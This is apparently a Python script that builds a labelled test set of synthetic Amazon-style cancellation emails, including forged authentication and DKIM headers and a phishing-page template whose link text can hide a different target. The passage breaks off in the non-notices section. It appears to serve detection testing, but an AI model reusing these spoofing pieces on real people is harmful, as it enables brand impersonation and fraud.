#!/usr/bin/env python3
"""Regenerate blind batch s1: raw .eml files plus labels.json.

Languages: en, de, nl.  Per language: 8 lookalikes, 6 non-notices, 6 notices.
Run:  python3 make.py   (writes ./mail/*.eml and ./labels.json next to this file)
"""
import io
import json
import os
import random
import string
import urllib.parse
from datetime import datetime, timedelta, timezone
from email.charset import Charset, QP, BASE64
from email.generator import BytesGenerator
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import formataddr, format_datetime, parseaddr

SEED = 51001
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "mail")

# ---------------------------------------------------------------- helpers

def rand_alnum(n, chars=string.ascii_uppercase + string.digits):
    return "".join(rng.choice(chars) for _ in range(n))


def rand_date(start="2024-03-01", days=600):
    base = datetime.strptime(start, "%Y-%m-%d").replace(tzinfo=timezone.utc)
    return base + timedelta(days=rng.randrange(days), seconds=rng.randrange(86400))


def fmt_date(dt, tz_hours=0):
    return format_datetime(dt.astimezone(timezone(timedelta(hours=tz_hours))))


def order_no(prefix):
    return "%s-%07d-%07d" % (prefix, rng.randrange(10 ** 7), rng.randrange(10 ** 7))


def amz_track(market, url, ref="pe_%d_%d" % (0, 0)):
    """Amazon-style r.html tracking redirect."""
    q = urllib.parse.quote(url, safe="")
    return ("https://www.%s/gp/r.html?C=%s&K=%s&M=urn:rtn:msg:%s&R=%s&T=C&U=%s&H=%s&ref_=%s"
            % (market, rand_alnum(13), rand_alnum(13),
               datetime(2024, 1, 1).strftime("%Y%m%d") + rand_alnum(30, "0123456789abcdef") + "p0eu",
               rand_alnum(12), q, rand_alnum(28), ref))


def received_amazon(market, dt):
    host = rng.choice(["a11-%d.smtp-out.amazonses.com" % rng.randrange(10, 99),
                       "smtp-out-%d.amazon.com" % rng.randrange(1000, 9999),
                       "a%d-%d.smtp-out.eu-west-1.amazonses.com" % (rng.randrange(1, 9), rng.randrange(10, 250))])
    ip = "54.240.%d.%d" % (rng.randrange(0, 64), rng.randrange(1, 250))
    return ("from %s (%s [%s])\n\tby mx.google.com with ESMTPS id %s\n\tfor <recipient>; %s"
            % (host, host, ip, rand_alnum(20, string.ascii_lowercase + string.digits), fmt_date(dt)))


def received_generic(host, ip, dt, by="mx.google.com"):
    return ("from %s (%s [%s])\n\tby %s with ESMTPS id %s;\n\t%s"
            % (host, host, ip, by, rand_alnum(16, string.ascii_lowercase + string.digits), fmt_date(dt)))


def auth_pass(domain, receiver="mx.google.com"):
    return ("%s;\n       dkim=pass header.i=@%s header.s=%s header.b=%s;\n"
            "       spf=pass (%s: domain of %s designates 54.240.%d.%d as permitted sender) smtp.mailfrom=%s;\n"
            "       dmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=%s"
            % (receiver, domain, rand_alnum(32, string.ascii_lowercase + string.digits)[:32],
               rand_alnum(8, string.ascii_letters + string.digits), receiver,
               "bounces." + domain, rng.randrange(0, 64), rng.randrange(1, 250),
               "2024%s@bounces.%s" % (rand_alnum(10, string.digits), domain), domain))


def dkim_sig(domain):
    b = rand_alnum(172, string.ascii_letters + string.digits + "+/")
    return ("v=1; a=rsa-sha256; q=dns/txt; c=relaxed/simple;\n\ts=%s; d=%s; t=%d;\n"
            "\th=Date:From:To:Message-ID:Subject:MIME-Version:Content-Type;\n"
            "\tbh=%s=;\n\tb=%s"
            % (rand_alnum(32, string.ascii_lowercase + string.digits), domain,
               1700000000 + rng.randrange(50000000), rand_alnum(43, string.ascii_letters + string.digits),
               "\n\t".join(b[i:i + 64] for i in range(0, len(b), 64))))


def make_part(body, subtype, charset, cte):
    cs = Charset(charset)
    if cte == "qp":
        cs.body_encoding = QP
    elif cte == "b64":
        cs.body_encoding = BASE64
    else:  # "8bit"/"7bit": raw
        cs.body_encoding = None
    part = MIMEText(body, subtype, cs)
    del part["MIME-Version"]
    return part


def fold_ascii(value, width=76):
    words, lines, cur = value.split(" "), [], ""
    for w in words:
        if cur and len(cur) + 1 + len(w) > width:
            lines.append(cur)
            cur = w
        else:
            cur = (cur + " " + w) if cur else w
    lines.append(cur)
    return "\n ".join(lines)


def hdr(value, charset="utf-8"):
    try:
        value.encode("ascii")
        return fold_ascii(value, 68)
    except UnicodeEncodeError:
        try:
            value.encode(charset)
        except UnicodeEncodeError:
            charset = "utf-8"
        return Header(value, charset).encode(maxlinelen=76)


def addr(name, address, charset="utf-8"):
    if not name:
        return address
    return formataddr((name, address), charset=charset)


def build(m):
    fmt = m.get("fmt", "alt")
    charset = m.get("charset", "utf-8")
    cte = m.get("cte", "qp")
    html_cte = m.get("html_cte", cte)
    if fmt == "text":
        body = make_part(m["text"], "plain", charset, cte)
    elif fmt == "html":
        body = make_part(m["html"], "html", charset, html_cte)
    else:
        body = MIMEMultipart("alternative",
                             boundary="----=_Part_%d_%d.%d" % (rng.randrange(10 ** 7, 10 ** 8),
                                                                rng.randrange(10 ** 8, 10 ** 9),
                                                                rng.randrange(10 ** 12, 10 ** 13)))
        body.attach(make_part(m["text"], "plain", charset, cte))
        body.attach(make_part(m["html"], "html", charset, html_cte))
    if m.get("attachments"):
        outer = MIMEMultipart("mixed", boundary="=_mixed_%s" % rand_alnum(24, string.ascii_lowercase + string.digits))
        outer.attach(body)
        for fname, data, mtype in m["attachments"]:
            maintype, sub = mtype.split("/")
            if maintype == "text":
                a = make_part(data, sub, "utf-8", "b64")
            else:
                a = MIMEApplication(data, sub)
            del a["MIME-Version"]
            a.add_header("Content-Disposition", "attachment", filename=fname)
            outer.attach(a)
        body = outer
    hcs = m.get("header_charset", "utf-8")
    heads = []
    rcpt = parseaddr(m["to"])[1] or "undisclosed-recipients"
    for k, v in m.get("pre", []):
        heads.append((k, v.replace("<recipient>", "<%s>" % rcpt)))
    heads.append(("From", addr(m["from_name"], m["from_addr"], hcs)))
    if m.get("reply_to"):
        heads.append(("Reply-To", m["reply_to"]))
    heads.append(("To", m["to"]))
    if m.get("cc"):
        heads.append(("Cc", m["cc"]))
    heads.append(("Subject", hdr(m["subject"], hcs)))
    heads.append(("Date", m["date"]))
    heads.append(("Message-ID", m["msgid"]))
    for k, v in m.get("post", []):
        heads.append((k, v))
    # MIME headers last, in the order the MIME classes created them
    mime = [(k, v) for k, v in body._headers if k.lower() != "mime-version"]
    body._headers = heads + [("MIME-Version", "1.0")] + mime
    buf = io.BytesIO()
    BytesGenerator(buf, mangle_from_=False, maxheaderlen=0).flatten(body, linesep="\n")
    return buf.getvalue()


# ------------------------------------------------- Amazon-like templates

MARKETS = {
    "amazon.com": dict(brand="Amazon.com", lang="en", prefix=["111", "112", "113", "114"]),
    "amazon.co.uk": dict(brand="Amazon.co.uk", lang="en", prefix=["202", "203", "204", "205", "206"]),
    "amazon.ca": dict(brand="Amazon.ca", lang="en", prefix=["701", "702"]),
    "amazon.com.au": dict(brand="Amazon.com.au", lang="en", prefix=["249", "250"]),
    "amazon.in": dict(brand="Amazon.in", lang="en", prefix=["402", "403", "404", "405", "171"]),
    "amazon.sg": dict(brand="Amazon.sg", lang="en", prefix=["503"]),
    "amazon.ie": dict(brand="Amazon.ie", lang="en", prefix=["206", "207"]),
    "amazon.co.za": dict(brand="Amazon.co.za", lang="en", prefix=["504", "505"]),
    "amazon.de": dict(brand="Amazon.de", lang="de", prefix=["302", "303", "304", "305", "306", "028"]),
    "amazon.nl": dict(brand="Amazon.nl", lang="nl", prefix=["402", "403", "404", "405", "406"]),
    "amazon.com.be": dict(brand="Amazon.com.be", lang="nl", prefix=["407", "408"]),
}

LEGAL = {
    "en-eu": "Amazon EU S.\u00e0 r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg. Share capital: EUR 125.000; "
             "Registered in Luxembourg; RCS Luxembourg No: B 101818; Business Licence Number: 134248; "
             "Luxembourg VAT Registration Number: LU 20260743.",
    "de": "Amazon EU S.\u00e0 r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg. Gesellschaftskapital: EUR 125.000; "
          "Sitz: Luxemburg; Handelsregister: RCS Luxemburg B 101818; Niederlassungsgenehmigung Nr. 134248; "
          "USt-IdNr. LU 20260743. Amazon EU S.\u00e0 r.l., Niederlassung Deutschland, Marcel-Breuer-Stra\u00dfe 12, "
          "80807 M\u00fcnchen; Handelsregister: Amtsgericht M\u00fcnchen HRB 218574.",
    "nl": "Amazon EU S.\u00e0 r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg. Maatschappelijk kapitaal: EUR 125.000; "
          "ingeschreven in Luxemburg; RCS Luxemburg nr. B 101818; vestigingsvergunning nr. 134248; "
          "btw-nummer LU 20260743.",
}

SECURITY = {
    "en": [
        "Amazon will never ask you to provide or verify your password, bank account or card details, or a one-time "
        "passcode by email, text message or phone call. Never share this information with anyone.",
        "If your card number or expiry date has changed, you can update it at any time in Your Account > Your Payments.",
        "Received a suspicious email that claims to come from {brand}? Do not click its links or open its attachments. "
        "Report it to us: https://www.{market}/gp/help/customer/display.html?nodeId=GYNH2KBDHD7HT8DE",
        "For help with your order, visit https://www.{market}/gp/help/customer/display.html or Your Orders at "
        "https://www.{market}/gp/css/order-history",
    ],
    "de": [
        "Amazon wird Sie niemals per E-Mail, SMS oder Telefon auffordern, Ihr Passwort, Ihre Bank- oder "
        "Kreditkartendaten oder einen Einmalcode anzugeben oder zu best\u00e4tigen. Geben Sie diese Daten nie an Dritte weiter.",
        "Wenn sich Ihre Kartennummer oder das Ablaufdatum Ihrer Karte ge\u00e4ndert hat, k\u00f6nnen Sie diese jederzeit "
        "unter Mein Konto > Zahlungsarten aktualisieren.",
        "Sie haben eine verd\u00e4chtige E-Mail erhalten, die angeblich von Amazon stammt? Klicken Sie auf keine Links und "
        "\u00f6ffnen Sie keine Anh\u00e4nge. Melden Sie sie uns: https://www.amazon.de/gp/help/customer/display.html?nodeId=GYNH2KBDHD7HT8DE",
        "Hilfe zu Ihrer Bestellung finden Sie unter https://www.amazon.de/hilfe oder in Meine Bestellungen: "
        "https://www.amazon.de/gp/css/order-history",
    ],
    "nl": [
        "Amazon zal u nooit per e-mail, sms of telefoon vragen om uw wachtwoord, bankgegevens, creditcardgegevens of "
        "een eenmalige code op te geven of te bevestigen. Deel deze gegevens nooit met anderen.",
        "Is uw kaartnummer of de vervaldatum van uw kaart gewijzigd? U kunt deze op elk moment bijwerken via "
        "Uw account > Uw betalingen.",
        "Heeft u een verdachte e-mail ontvangen die van Amazon lijkt te komen? Klik niet op links en open geen bijlagen. "
        "Meld het bericht: https://www.{market}/gp/help/customer/display.html?nodeId=GYNH2KBDHD7HT8DE",
        "Hulp bij uw bestelling vindt u op https://www.{market}/gp/help/customer/display.html of via Uw bestellingen: "
        "https://www.{market}/gp/css/order-history",
    ],
}

NOREPLY = {
    "en": "This email was sent from a notification-only address that cannot accept incoming email. Please do not reply to this message.",
    "de": "Diese E-Mail wurde von einer Adresse verschickt, die keine E-Mails empfangen kann. Bitte antworten Sie nicht auf diese Nachricht.",
    "nl": "Deze e-mail is verzonden vanaf een adres dat geen inkomende e-mail kan ontvangen. Beantwoord dit bericht niet.",
}

LABELS = {
    "en": dict(order="Order", items="Canceled Items", qty="Qty", sold="Sold by", total="Order total", orders="Your Orders",
               help="Help", account="Your Account"),
    "en-gb": dict(order="Order", items="Cancelled Items", qty="Quantity", sold="Sold by", total="Order total",
                  orders="Your Orders", help="Help", account="Your Account"),
    "de": dict(order="Bestellung", items="Stornierte Artikel", qty="Menge", sold="Verkauft von", total="Gesamtbetrag",
               orders="Meine Bestellungen", help="Hilfe", account="Mein Konto"),
    "nl": dict(order="Bestelling", items="Geannuleerde artikelen", qty="Aantal", sold="Verkocht door", total="Totaal",
               orders="Uw bestellingen", help="Klantenservice", account="Uw account"),
}

TD = ("border-collapse: collapse !important; -webkit-text-size-adjust: 100%; -ms-text-size-adjust: 100%; "
      "font-family: Arial, sans-serif")
TBL = "border-collapse: collapse !important; -webkit-text-size-adjust: 100%; -ms-text-size-adjust: 100%; text-align: left"


def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def security_lines(lang, market):
    brand = MARKETS[market]["brand"]
    return [s.format(market=market, brand=brand) for s in SECURITY[lang]]


def legal_for(lang, market):
    if lang == "de":
        return LEGAL["de"]
    if lang == "nl":
        return LEGAL["nl"]
    if market in ("amazon.co.uk", "amazon.ie"):
        return LEGAL["en-eu"]
    return ""


def amz_text(lang, market, title, order, greeting, paras, items, total=None, lab="en", extra_footer=None,
             items_label=None):
    L = dict(LABELS[lab])
    if items_label:
        L["items"] = items_label
    brand = MARKETS[market]["brand"]
    out = ["%s %s" % (brand, title), "%s #%s " % (L["order"], order), "https://www.%s/ref=TE_tex_g" % market,
           "_" * 75, "", greeting, ""]
    for p in paras:
        out += [p, ""]
    if items:
        out += [L["items"], "-" * len(L["items"])]
        for name, seller, price, qty in items:
            out.append("%s" % name)
            out.append("  %s: %s   %s: %s   %s" % (L["qty"], qty, L["sold"], seller, price))
        out.append("")
    if total:
        out += ["%s: %s" % (L["total"], total), ""]
    out += ["%s: https://www.%s/gp/css/order-history?ref_=TE_tex_yo" % (L["orders"], market), "=" * 75, ""]
    for s in security_lines(lang, market):
        out += [s, ""]
    if extra_footer:
        out += [extra_footer, ""]
    lg = legal_for(lang, market)
    if lg:
        out += [lg, ""]
    out.append(NOREPLY[lang])
    return "\n".join(out) + "\n"


def amz_html(lang, market, order, greeting, paras, items, total=None, button=None, lab="en", extra_footer=None,
             items_label=None):
    L = dict(LABELS[lab])
    if items_label:
        L["items"] = items_label
    brand = MARKETS[market]["brand"]
    ref = "pe_%d_%d" % (rng.randrange(10 ** 7, 10 ** 8), rng.randrange(10 ** 8, 10 ** 9))
    pix = amz_track(market, "https://images-eu.ssl-images-amazon.com/images/G/01/nav/transp.gif", ref + "_opens")
    h = []
    h.append('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
             '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">')
    h.append('<html xmlns="https://www.w3.org/1999/xhtml">\n <head>\n  <meta http-equiv="Content-Type" '
             'content="text/html; charset=UTF-8" />\n  <meta name="viewport" content="width=device-width, initial-scale=1.0" />')
    h.append('  <style type="text/css">\nbody { margin:0; font:13px/18px Arial, sans-serif; }\n'
             'a { text-decoration:none; color:#006699; }\na img { border:0; }\n'
             'h3 { font-size:18px; color:#cc6600; margin:15px 0 0 0; font-weight:normal; }\n'
             'table { border-collapse:collapse; }\ntd { vertical-align: top; font-size: 13px; line-height: 18px; '
             'font-family: Arial, sans-serif; }\n  </style>\n </head>')
    h.append('<body style="width: 100%% !important; height: 100%% !important; margin: 0; padding: 0">'
             '<img width="1" height="1" src="%s" /> ' % esc(pix))
    h.append('  <table id="OutlookWrapper" style="width: 100%%; %s">\n   <tbody>\n    <tr>\n     <td align="center" style="%s">'
             % (TBL, TD))
    h.append('      <table id="EmailWrapper" style="width: 100%% !important; %s" dir="ltr">\n       <tbody>\n        <tr>'
             '\n         <td align="center" style="%s">' % (TBL, TD))
    h.append('          <table class="emailBody" style="width: 640px; background-color: rgb(250, 250, 250); %s">'
             '\n           <tbody>\n            <tr>\n             <td class="emailBodyTD" style="padding: 23px 18px 21px 17px; %s">'
             % (TBL, TD))
    h.append('              <a href="%s"><table class="brandTable" style="margin-bottom: 20px; width: 100%%; %s"><tbody><tr>'
             '<td align="center" style="%s"><img src="https://images-na.ssl-images-amazon.com/images/G/01/reading/images/amazon.png" '
             'alt="%s" title="%s" class="brandImage" border="0" width="130" style="width: 130px" /></td></tr></tbody></table></a>'
             % (esc(amz_track(market, "https://www.%s" % market, ref)), TBL, TD, brand, brand))
    h.append('              <table class="emailContainer" style="background-color: rgb(255, 255, 255); border: 1px solid rgb(214, 214, 214); '
             'border-top: 2px solid rgb(206, 206, 206); %s">\n               <tbody>\n                <tr>\n'
             '                 <td class="emailContainerTD" style="padding: 25px 23px 33px 23px; %s">' % (TBL, TD))
    h.append('                  <table class="greetingTable" style="font-size: 20px; line-height: 24px; color: rgb(0, 46, 54); '
             'margin-bottom: 18px; %s"><tbody><tr><td style="%s"><span>%s</span> </td></tr></tbody></table>'
             % (TBL, TD, esc(greeting)))
    h.append('                  <table class="informationTable" style="font-size: 15px; line-height: 22px; color: rgb(0, 46, 54); %s">'
             '<tbody>' % TBL)
    for p in paras:
        h.append('<tr><td style="padding-bottom: 16px; %s"><span>%s</span> </td></tr>' % (TD, esc(p)))
    h.append('</tbody></table>')
    order_url = amz_track(market, "https://www.%s/gp/css/summary/edit.html?ie=UTF8&orderID=%s" % (market, order), ref)
    if order:
        h.append('                  <table class="orderTable" style="margin-top: 6px; %s"><tbody><tr><td style="color: rgb(86, 89, 89); %s">'
               '%s #</td></tr><tr><td style="%s"><a href="%s" style="color: rgb(0, 113, 133);">%s</a></td></tr></tbody></table>'
               % (TBL, TD, L["order"], TD, esc(order_url), order))
    if items:
        h.append('                  <h3>%s</h3>' % esc(L["items"]))
        h.append('                  <table class="itemsTable" style="width: 100%%; margin-top: 8px; %s"><tbody>' % TBL)
        for name, seller, price, qty in items:
            asin = "B0" + rand_alnum(8)
            iu = amz_track(market, "https://www.%s/dp/%s" % (market, asin), ref + "_dt_1")
            h.append('<tr><td style="width: 90px; padding: 6px; %s"><img src="https://m.media-amazon.com/images/I/%s._SS90_.jpg" '
                     'width="90" alt="" /></td><td style="padding: 6px; %s"><a href="%s">%s</a><br />'
                     '<span style="color: rgb(86, 89, 89);">%s: %s</span><br /><span style="color: rgb(86, 89, 89);">%s: %s</span>'
                     '<br /><b>%s</b></td></tr>'
                     % (TD, rand_alnum(11, string.ascii_letters + string.digits), TD, esc(iu), esc(name),
                        L["qty"], qty, L["sold"], esc(seller), esc(price)))
        h.append('</tbody></table>')
    if total:
        h.append('                  <table style="width: 100%%; margin-top: 10px; border-top: 1px solid #ddd; %s"><tbody><tr>'
                 '<td style="padding-top: 8px; %s">%s</td><td align="right" style="padding-top: 8px; %s"><b>%s</b></td></tr>'
                 '</tbody></table>' % (TBL, TD, L["total"], TD, esc(total)))
    if button:
        btxt, burl = button
        h.append('                  <table class="buttonComponent" style="margin-top: 20px; %s"><tbody><tr><td align="center" '
                 'valign="middle" style="background-color: #ffa723; padding: 12px 30px; border-radius: 3px; %s">'
                 '<a class="buttonComponentLink" href="%s" style="color: rgb(27, 27, 27); font: 16px/18px Arial, sans-serif;">'
                 '%s</a></td></tr></tbody></table>' % (TBL, TD, esc(amz_track(market, burl, ref)), esc(btxt)))
    h.append('                 </td>\n                </tr>\n               </tbody>\n              </table>')
    foot = security_lines(lang, market)
    if extra_footer:
        foot.append(extra_footer)
    lg = legal_for(lang, market)
    if lg:
        foot.append(lg)
    foot.append(NOREPLY[lang])
    h.append('              <table class="footerTable" style="margin-top: 18px; width: 100%%; %s"><tbody>' % TBL)
    for f in foot:
        h.append('<tr><td style="padding-bottom: 10px; font-size: 11px; line-height: 15px; color: rgb(102, 102, 102); %s">%s</td></tr>'
                 % (TD, esc(f)))
    h.append('</tbody></table>')
    h.append('             </td>\n            </tr>\n           </tbody>\n          </table>\n         </td>\n        </tr>'
             '\n       </tbody>\n      </table>\n     </td>\n    </tr>\n   </tbody>\n  </table>\n</body>\n</html>')
    return "\n".join(h) + "\n"


def amazon_msgid(dt):
    return "<01020%s-%s-%s-%s-%s-000000@eu-west-1.amazonses.com>" % (
        rand_alnum(11, "0123456789abcdef"), rand_alnum(8, "0123456789abcdef"), rand_alnum(4, "0123456789abcdef"),
        rand_alnum(4, "0123456789abcdef"), rand_alnum(12, "0123456789abcdef"))


def genuine_headers(market, dt, auth, sender):
    pre = [("Return-Path", "<2024%s@bounces.%s>" % (rand_alnum(16, string.digits + "abcdef"), market))]
    pre.append(("Received", received_amazon(market, dt)))
    if auth:
        pre.append(("Authentication-Results", auth_pass(market)))
        pre.append(("DKIM-Signature", dkim_sig(market)))
    post = [("X-AMAZON-MAIL-RELAY-TYPE", "notification"),
            ("Bounces-to", "2024%s@bounces.%s" % (rand_alnum(20, string.digits + "ABCDEF"), market)),
            ("X-AMAZON-RTE-VERSION", "2.0"),
            ("Feedback-ID", "1.eu-west-1.%s=:AmazonSES" % rand_alnum(44, string.ascii_letters + string.digits + "+/"))]
    return pre, post


MAILS = []   # each: dict with label fields + message fields


def add(**kw):
    MAILS.append(kw)


def amz_notice(lang, market, sender, subject, greeting, paras, items, cause, states_reason, note, auth,
               fmt="alt", charset="utf-8", cte="qp", html_cte=None, lab=None, title="Order Cancellation",
               to=None, total=None, button=None, tz=0, extra_footer=None):
    order = order_no(rng.choice(MARKETS[market]["prefix"]))
    f = lambda s: s.replace("{order}", order)
    lab = lab or lang
    dt = rand_date()
    paras = [f(p) for p in paras]
    pre, post = genuine_headers(market, dt, auth, sender)
    m = dict(kind="notice", language=lang, cause=cause, states_reason=states_reason, marketplace=market, note=note,
             from_name=MARKETS[market]["brand"], from_addr="%s@%s" % (sender, market), reply_to="no-reply@%s" % market,
             to=to, subject=f(subject), date=fmt_date(dt, tz), msgid=amazon_msgid(dt), pre=pre, post=post,
             fmt=fmt, charset=charset, cte=cte, html_cte=html_cte or cte)
    if fmt in ("text", "alt"):
        m["text"] = amz_text(lang, market, title, order, greeting, paras, items, total, lab, extra_footer)
    if fmt in ("html", "alt"):
        m["html"] = amz_html(lang, market, order, greeting, paras, items, total, button, lab, extra_footer)
    add(**m)
    return order


def plain_mail(kind, lang, cause, states_reason, marketplace, note, from_name, from_addr, to, subject, text=None,
               html=None, fmt=None, charset="utf-8", cte="qp", html_cte=None, pre=None, post=None, reply_to=None,
               msgid_domain=None, tz=0, attachments=None, header_charset="utf-8", cc=None, dt=None):
    dt = dt or rand_date()
    if fmt is None:
        fmt = "alt" if (text and html) else ("html" if html else "text")
    dom = msgid_domain or from_addr.split("@")[1]
    pre = [(k, (v(dt) if callable(v) else v)) for k, v in (pre or [])]
    add(kind=kind, language=lang, cause=cause, states_reason=states_reason, marketplace=marketplace, note=note,
        from_name=from_name, from_addr=from_addr, to=to, subject=subject, date=fmt_date(dt, tz),
        msgid="<%s.%s@%s>" % (rand_alnum(14, string.ascii_lowercase + string.digits), rand_alnum(6, string.digits), dom),
        pre=pre, post=post or [], fmt=fmt, charset=charset, cte=cte, html_cte=html_cte or cte, text=text, html=html,
        reply_to=reply_to, attachments=attachments, header_charset=header_charset, cc=cc)


def recv(host, ip, by="mx.google.com"):
    return ("Received", lambda dt: received_generic(host, ip, dt, by))


def auth_hdr(text, receiver="mx.google.com"):
    return ("Authentication-Results", "%s;\n       %s" % (receiver, text.replace("; ", ";\n       ")))


def phish_html(brand, logo_alt, greeting, paras, button_text, button_href, shown_links=(), footer=(),
               box_color="#232f3e", order=None, order_label="Order #"):
    """A phishing page that imitates the Amazon look; shown_links are (display_text, real_href)."""
    h = ['<html><head><meta charset="utf-8"><title>%s</title></head>' % esc(brand),
         '<body style="margin:0;padding:0;background:#eaeded;font-family:Arial,Helvetica,sans-serif">',
         '<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeded"><tr><td align="center">',
         '<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;margin-top:20px">',
         '<tr><td style="background:%s;padding:14px 20px"><img src="https://i.imgur.com/%s.png" alt="%s" width="110" '
         'style="display:block;color:#ffffff;font-size:22px;font-weight:bold"></td></tr>'
         % (box_color, rand_alnum(7, string.ascii_letters + string.digits), esc(logo_alt)),
         '<tr><td style="padding:24px 28px;font-size:14px;line-height:21px;color:#111">',
         '<p style="font-size:18px;margin:0 0 14px 0">%s</p>' % esc(greeting)]
    if order:
        h.append('<p style="margin:0 0 12px 0;color:#565959">%s <b style="color:#007185">%s</b></p>'
                 % (esc(order_label), esc(order)))
    for p in paras:
        h.append('<p style="margin:0 0 12px 0">%s</p>' % p)
    if button_text:
        h.append('<table cellpadding="0" cellspacing="0" style="margin:18px 0"><tr><td style="background:#ffd814;'
                 'border-radius:8px;padding:11px 26px"><a href="%s" style="color:#0f1111;text-decoration:none;font-size:15px">'
                 '%s</a></td></tr></table>' % (esc(button_href), esc(button_text)))
    for text, href in shown_links:
        h.append('<p style="margin:0 0 8px 0"><a href="%s" style="color:#007185">%s</a></p>' % (esc(href), esc(text)))
    h.append('</td></tr>')
    if footer:
        h.append('<tr><td style="padding:16px 28px;background:#f3f3f3;font-size:11px;line-height:15px;color:#666">')
        h.append("<br>".join(esc(x) for x in footer))
        h.append('</td></tr>')
    h.append('</table></td></tr></table></body></html>')
    return "\n".join(h) + "\n"


# =================================================================== ENGLISH
EN_TO = ['"Sarah Mitchell" <sarah.mitchell82@gmail.com>', '"James O\'Connor" <jamesoconnor@outlook.com>',
         '"Priya Raman" <priya.raman@yahoo.co.in>', '"Daniel Wong" <dwong.sg@gmail.com>',
         '"Emily Carter" <emily.carter@btinternet.com>', '"Liam Fraser" <liam.fraser@bigpond.com>',
         '"Megan Tremblay" <megan.tremblay@rogers.com>', '"Thabo Nkosi" <thabo.nkosi@webmail.co.za>',
         '"Aoife Byrne" <aoife.byrne@eircom.net>', 'chris.h.dalton@gmail.com']

# ---- EN notices (one per cause)
amz_notice("en", "amazon.co.uk", "order-update",
           '1 item has been cancelled from your Amazon.co.uk order #{order}',
           "Hello Emily,",
           ["We're sorry to let you know that we've had to cancel the following item from your order. Our supplier "
            "has informed us that it is no longer available and we're unable to obtain further stock.",
            "You have not been charged for this item. If an authorisation hold appears on your card, it will be released "
            "by your card issuer within a few working days.",
            "Any other items in this order are not affected and will be dispatched as confirmed."],
           [("LEGO Technic 42172 McLaren P1 Hypercar Building Set", "Amazon EU S.\u00e0 r.l., UK Branch", "\u00a3349.99", 1)],
           "inventory_shortage", True, "supplier cannot obtain stock; item cancelled; HTML like real template", True,
           fmt="alt", charset="utf-8", cte="qp", lab="en-gb", title="Cancellation", to=EN_TO[4],
           button=("View your order", "https://www.amazon.co.uk/gp/css/order-history"))

amz_notice("en", "amazon.com", "payments-messages",
           "Your Amazon.com order #{order} has been canceled",
           "Hello Chris,",
           ["We're writing to let you know that your order #{order} has been canceled.",
            "We were unable to obtain a valid payment authorization for this order: the charge to your Visa ending in "
            "4417 was declined by the card issuer. We emailed you on the day the order was placed, but we did not receive "
            "a payment revision within the requested time, so the order could not be shipped.",
            "If you'd still like to purchase these items, please place a new order with a valid payment method. "
            "You have not been charged."],
           [("Anker 737 Power Bank (PowerCore 24K) 140W", "Amazon.com Services LLC", "$89.99", 1),
            ("Amazon Basics USB-C to USB-C 2.0 Cable, 6 ft, 2-Pack", "Amazon.com Services LLC", "$11.49", 1)],
           "payment_issue", True, "card declined and no payment revision in time; plain text", False,
           fmt="text", charset="utf-8", cte="7bit", lab="en", to=EN_TO[9], total="$101.48", tz=-5)

amz_notice("en", "amazon.ca", "order-update",
           "Your Amazon.ca order #{order} has been cancelled",
           "Hi Megan,",
           ["We're contacting you about your recent order. Due to a pricing error, the item below was listed on "
            "Amazon.ca at an incorrect price.",
            "As explained in our Conditions of Use, when an item's correct price is higher than the price shown, we "
            "cancel the order and notify you. We have therefore cancelled this order. Any pending charge on your "
            "payment method will be reversed.",
            "We apologize for the inconvenience. The item is available again at its correct price on its product page."],
           [("Dyson V15 Detect Absolute Cordless Vacuum", "Amazon.com.ca ULC", "CDN$ 89.99", 1)],
           "technical_issue", True, "pricing error cancellation", False,
           fmt="alt", charset="utf-8", cte="b64", lab="en-gb", to=EN_TO[6], tz=-5,
           button=("Your Orders", "https://www.amazon.ca/gp/css/order-history"))

amz_notice("en", "amazon.com.au", "cs-reply",
           "Your Amazon.com.au order #{order} has been cancelled",
           "Hello Liam,",
           ["As part of our routine security checks, we noticed unusual activity associated with your account and this "
            "order. To protect you, we have cancelled the order below and placed a temporary hold on your account.",
            "To remove the hold, go directly to amazon.com.au, sign in, and follow the on-screen instructions to verify "
            "your identity. Please do not reply to this message with personal or payment information.",
            "Any pending charges for this order have been released."],
           [("Apple AirPods Pro (2nd Generation) with MagSafe Case (USB-C)", "Amazon AU", "$349.00", 2)],
           "fraud_prevention", True, "unusual activity, account hold, verify identity by signing in directly", True,
           fmt="alt", charset="utf-8", cte="qp", lab="en-gb", to=EN_TO[5], tz=10)

amz_notice("en", "amazon.in", "auto-confirm",
           'Successful cancellation of "boAt Airdopes 141 Bluetooth TWS..." from your Amazon.in order {order}',
           "Hello Priya,",
           ["As requested, we have cancelled the item(s) below from your order #{order}.",
            "Cancel Reason: Customer Canceled",
            "Since you paid using Amazon Pay UPI, the refund of \u20b91,299.00 will be credited to your bank account within "
            "2-4 business days. You will receive a separate email once the refund has been processed."],
           [("boAt Airdopes 141 Bluetooth TWS Earbuds, 42H Playtime (Bold Black)", "Appario Retail Private Ltd",
             "\u20b91,299.00", 1)],
           "customer_request", True, "customer-initiated cancellation, HTML only", False,
           fmt="html", charset="utf-8", cte="qp", lab="en", to=EN_TO[2], tz=5.5)

amz_notice("en", "amazon.sg", "order-update",
           "Your Amazon.sg order #{order} has been cancelled",
           "Hello Daniel,",
           ["Your order #{order} has been cancelled. We apologise for any inconvenience caused.",
            "If you have been charged for this order, a refund will be issued to your original payment method within "
            "3-5 business days. Refunds to credit cards may take longer to appear on your statement."],
           [("Philips Series 3000i Air Purifier AC3033/30", "Amazon Asia-Pacific Resources Private Limited",
             "S$429.00", 1)],
           "unknown", False, "cancellation with no reason given", True,
           fmt="text", charset="utf-8", cte="b64", lab="en-gb", to=EN_TO[3], tz=8)

# ---- EN non-notices
_ebay_order = "%02d-%05d-%05d" % (rng.randrange(10, 28), rng.randrange(10 ** 5), rng.randrange(10 ** 5))
plain_mail("non_notice", "en", None, False, None,
           "eBay order cancelled by seller; seller note mentions their Amazon store",
